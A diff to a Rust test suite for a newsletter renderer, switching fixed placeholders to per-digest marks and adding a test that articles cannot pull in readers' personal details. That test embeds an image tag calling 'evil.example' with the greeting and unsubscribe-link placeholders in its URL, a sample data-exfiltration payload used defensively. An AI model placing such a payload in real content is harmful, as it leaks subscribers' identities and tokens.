@@ -1,7 +1,7 @@
 //! A digest holds its issue, in both parts, in whichever language, and is never too long.
 
 use super::{LONGEST, digest, pages};
-use crate::model::{Detail, Digest, GREETING, Issue, LIST_TITLE, Language, Post, UNSUBSCRIBE};
+use crate::model::{Detail, Digest, Issue, Language, Marks, Post};
 use crate::render::samples::{html, issue, post, with_picture};
 use crate::templates::Templates;
 
@@ -15,8 +15,12 @@ fn drawn(issue: &Issue) -> Digest {
 fn read_in(language: &str, digest: &Digest) -> Digest {
     let language = Language::parse(language).unwrap();
     let (_, frame) = digest.frame(Some(&language)).unwrap();
-    let [html, text] = [&digest.html, &digest.text].map(|part| frame.fill(part, str::to_owned));
+    let [html, text] = [&digest.html, &digest.text].map(|part| frame.fill(part, &digest.marks, str::to_owned));
     Digest { html, text, ..digest.clone() }
+}
+
+fn opened(marks: &Marks) -> [String; 3] {
+    [marks.greeting(), marks.unsubscribe(), marks.list_title()]
 }
 
 fn english() -> Issue {
@@ -48,8 +52,8 @@ fn both_parts_hold_the_articles_and_the_open_places() {
     assert_eq!(digest.subject, "Newsletter No. 94: July 2026");
     let read = read_in("en", &digest);
     for part in [&read.html, &read.text] {
-        for open in [GREETING, UNSUBSCRIBE, LIST_TITLE] {
-            assert_eq!(part.matches(open).count(), 1, "{open}");
+        for open in opened(&digest.marks) {
+            assert_eq!(part.matches(&open).count(), 1, "{open}");
         }
         for words in [
             "The Compositor",
@@ -114,7 +118,7 @@ fn the_words_around_the_articles_are_in_the_language_of_the_reader() {
             html[html.find("<article").unwrap()..html.find("</footer>").unwrap()].to_owned()
         };
         assert_eq!(articles(&mine), articles(&theirs));
-        assert!(!theirs.html.contains("X0words") && !theirs.text.contains("X0words"), "{}", theirs.text);
+        assert!(!theirs.html.contains("words_") && !theirs.text.contains("words_"), "{}", theirs.text);
     }
 }
 
@@ -123,7 +127,7 @@ fn a_long_issue_is_cut_to_beginnings_then_to_titles() {
     for (kilobytes, detail) in [(20, Detail::Articles), (60, Detail::Leads), (300, Detail::Contents)] {
         let digest = drawn(&long(kilobytes, true));
         assert_eq!(digest.detail, detail, "{kilobytes} KB");
-        assert!(digest.html.len() <= LONGEST);
+        assert!(digest.marks.length(&digest.html) <= LONGEST);
         assert!(digest.html.contains("Piece 0") && digest.text.contains("Piece 0"));
         assert_eq!(digest.text.contains("Word after word"), detail == Detail::Articles);
     }
@@ -187,12 +191,15 @@ fn the_web_copy_names_nobody() {
     assert_eq!((html.path.as_str(), text.path.as_str()), ("newsletter/3/email.html", "newsletter/3/email.txt"));
     let text = String::from_utf8(text.bytes).unwrap();
     assert!(text.contains("Dear reader,") && text.contains("subscribed to Members"));
-    assert!(![GREETING, UNSUBSCRIBE, LIST_TITLE].iter().any(|open| text.contains(open)));
+    assert!(!opened(&digest.marks).iter().any(|open| text.contains(open)));
 }
 
 #[test]
 fn the_text_part_reads_well() {
-    insta::assert_snapshot!(read_in("en", &drawn(&english())).text, @r#"
+    let digest = read_in("en", &drawn(&english()));
+    let marks = opened(&digest.marks).into_iter().zip(opened(&Marks::default()));
+    let text = marks.fold(digest.text, |text, (mark, plain)| text.replace(&mark, &plain));
+    insta::assert_snapshot!(text, @r#"
     The Compositor
     Newsletter No. 94
     July 2026 · Published 1 August 2026
@@ -247,6 +254,30 @@ fn the_text_part_reads_well() {
     <X0unsubscribelink0X>
     "#);
     assert_eq!(drawn(&persian()), drawn(&persian()));
+}
+
+#[test]
+fn an_article_that_holds_marks_gets_nothing_of_a_reader() {
+    let own = drawn(&english()).marks;
+    for marks in [Marks::default(), own] {
+        let [greeting, link, list] = opened(&marks);
+        let view = marks.place("view_in_browser");
+        let body = format!(
+            "<p>{greeting} {list} {view}</p><p><img src=\"https://evil.example/p.png?g={greeting}&amp;u={link}\" alt=\"\"></p>"
+        );
+        let digest = drawn(&issue("en", "Newsletter", vec![post(1, "en", &format!("Of {greeting}"), &body)]));
+        let [html, text] = pages(&digest, "", "Members").map(|page| String::from_utf8(page.bytes).unwrap());
+        assert!(
+            html.contains(&format!("g={greeting}&amp;u={link}")) && html.contains(&format!("{list} {view}")),
+            "{html}"
+        );
+        let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
+        assert!(text.contains(&format!("{greeting} {list} {view}")), "{text}");
+        let filled = read_in("en", &digest).html;
+        for open in opened(&digest.marks) {
+            assert_eq!(filled.matches(&open).count(), 1, "{open}");
+        }
+    }
 }
 
 #[test]
